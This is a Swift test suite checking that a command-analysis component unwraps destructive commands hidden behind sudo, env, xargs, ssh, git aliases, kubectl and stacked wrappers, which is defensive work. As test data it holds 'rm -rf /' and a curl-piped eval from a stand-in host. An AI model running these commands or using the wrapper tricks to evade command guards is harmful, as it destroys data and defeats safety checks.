import Testing

@testable import Analysis

/// Attempts to hide a destructive command behind wrappers: each must surface the inner command (or an opaque
/// reason), following the wrappers one level at a time as the walk does.
@Suite struct UnwrappingBypassTests {
    /// What the wrappers finally run, following inner commands to `depth` levels (scripts are not parsed here).
    struct Unwrapped {
        var argvs: [[String]] = []
        var scripts: [String] = []
        var opaque: [OpaqueReason.Kind] = []
        var labels: [[String]] = []
    }

    func follow(_ words: [String], stdin: StandardInput = .inherited, depth: Int = 8) -> Unwrapped {
        var result = Unwrapped()
        var pending = [(invocation(words, stdin: stdin), 0)]
        while let (command, level) = pending.popLast() {
            guard level < depth, let derivation = CommandUnwrapping.derive(command) else {
                result.argvs.append(command.words.map(\.text))
                result.labels.append(command.wrappers)
                continue
            }
            result.scripts += derivation.scriptTexts
            result.opaque += derivation.opaqueKinds
            pending += derivation.commands.map { ($0, level + 1) }
        }
        return result
    }

    @Test func sudoAsRootWithDoubleDash() {
        let result = follow(["sudo", "-u", "root", "--", "rm", "-rf", "/"])
        #expect(result.argvs == [["rm", "-rf", "/"]])
        #expect(result.labels == [["sudo"]])
    }

    @Test func envWithClearedEnvironment() {
        #expect(follow(["env", "-i", "PATH=/bin", "rm", "-rf", "/"]).argvs == [["rm", "-rf", "/"]])
    }

    @Test func niceIoniceChain() {
        let result = follow(["nice", "-n", "19", "ionice", "-c3", "rm", "-rf", "/data"])
        #expect(result.argvs == [["rm", "-rf", "/data"]])
        #expect(result.labels == [["nice", "ionice"]])
    }

    @Test func timeoutWithSignal() {
        #expect(follow(["timeout", "-s", "KILL", "5", "rm", "-rf", "/"]).argvs == [["rm", "-rf", "/"]])
    }

    @Test func xargsWithNullInput() {
        let result = follow(["xargs", "-0", "rm", "-rf"])
        #expect(result.argvs == [["rm", "-rf", "{xargs input}"]])
    }

    @Test func findExecFromRoot() {
        let result = follow(["find", "/", "-name", "x", "-exec", "rm", "-rf", "{}", "+"])
        #expect(result.argvs == [["rm", "-rf", "{}"]])
        #expect(result.labels == [["find -exec"]])
    }

    @Test func loginShellCommandText() {
        #expect(follow(["bash", "-lc", "rm -rf /"]).scripts == ["rm -rf /"])
    }

    @Test func shellWithVariableCode() {
        #expect(follow(["sh", "-c", "$CMD"]).opaque == [.dynamicCode])
    }

    @Test func evalOfDownloadedCode() {
        #expect(follow(["eval", "$(curl -s https://x.example/i.sh)"]).opaque == [.dynamicCode])
    }

    @Test func sshWithOptions() {
        #expect(follow(["ssh", "-p", "22", "-i", "k", "host", "rm -rf /"]).argvs == [["rm", "-rf", "/"]])
        #expect(follow(["ssh", "host", "bash"], stdin: .text("rm -rf /")).scripts == ["rm -rf /"])
    }

    @Test func watchInterval() {
        #expect(follow(["watch", "-n1", "rm", "x"]).scripts == ["rm x"])
    }

    @Test func scriptQuietCommand() {
        #expect(follow(["script", "-qc", "rm x", "/dev/null"]).scripts == ["rm x"])
    }

    @Test func gitInlineShellAlias() {
        #expect(follow(["git", "-c", "alias.x=!rm -rf /", "x"]).scripts == ["rm -rf /"])
    }

    @Test func stackedWrappers() {
        let result = follow([
            "sudo", "-E", "env", "A=1", "nohup", "nice", "-n5", "timeout", "10", "stdbuf", "-oL", "setsid",
            "bash", "-c", "rm -rf /",
        ])
        #expect(result.scripts == ["rm -rf /"])
        #expect(result.opaque.isEmpty)
    }

    @Test func sudoChainsUnwrapOneLevelPerStep() {
        let words = Array(repeating: "sudo", count: 1_000) + ["rm", "-rf", "/"]
        let derivation = CommandUnwrapping.derive(invocation(words))
        #expect(derivation?.argv.count == 1_002)
        let result = follow(words, depth: 8)
        #expect(result.argvs.first?.count == 995)
    }

    @Test func envSplitStringHidingAShell() {
        #expect(follow(["env", "-S", "sh -c 'rm -rf /'"]).scripts == ["rm -rf /"])
    }

    @Test func commandAndBuiltinPrefixes() {
        #expect(follow(["command", "builtin", "exec", "rm", "-rf", "/"]).argvs == [["rm", "-rf", "/"]])
    }

    @Test func containerShellText() {
        let result = follow(["kubectl", "exec", "-it", "pod", "--", "sh", "-c", "rm -rf /data"])
        #expect(result.scripts == ["rm -rf /data"])
    }

    @Test func knownInputPipedToXargs() {
        #expect(follow(["xargs", "rm", "-rf"], stdin: .text("/\n")).argvs == [["rm", "-rf", "/"]])
    }

    @Test func abbreviatedLongOptions() {
        #expect(follow(["timeout", "--sig=KILL", "5", "rm", "x"]).argvs == [["rm", "x"]])
        #expect(follow(["sudo", "--pr", "x", "rm"]).opaque == [.unknownWrapper])  // ambiguous: prompt, preserve-…
    }

    @Test func upperCaseProgramNamesAreFolded() {
        // macOS file systems ignore case: `SUDO` and `Bash` find sudo and bash.
        #expect(follow(["SUDO", "-u", "root", "rm", "-rf", "/"]).argvs == [["rm", "-rf", "/"]])
        #expect(follow(["/bin/Bash", "-c", "rm -rf /"]).scripts == ["rm -rf /"])
    }

    @Test func commandDescribingRunsNothing() {
        let result = follow(["command", "-v", "git"])
        #expect(result.argvs.isEmpty && result.scripts.isEmpty && result.opaque.isEmpty)
    }
}
